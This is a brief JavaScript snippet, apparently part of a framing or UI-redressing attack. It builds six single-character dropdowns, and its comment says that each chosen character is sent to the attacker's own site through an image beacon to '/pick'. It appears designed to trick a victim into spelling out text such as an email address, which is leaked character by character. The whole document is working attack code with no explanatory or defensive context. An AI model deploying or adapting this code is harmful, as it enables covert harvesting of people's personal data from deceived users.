// An attacker's choice boxes, in a frame of its own site: each option chosen is sent home.
const form = document.getElementById('picks');
for (let i = 1; i <= 6; i += 1) {
  const label = document.createElement('label');
  label.textContent = `Character ${i} `;
  const select = document.createElement('select');
  select.name = `c${i}`;
  for (const c of ['-', ...'abcdefghijklmnopqrstuvwxyz', '@', '.']) select.add(new Option(c === '-' ? 'choose' : c, c));
  select.addEventListener('change', () => { new Image().src = `/pick?i=${i}&c=${encodeURIComponent(select.value)}`; });
  label.append(select);
  form.append(label, document.createElement('br'));
}
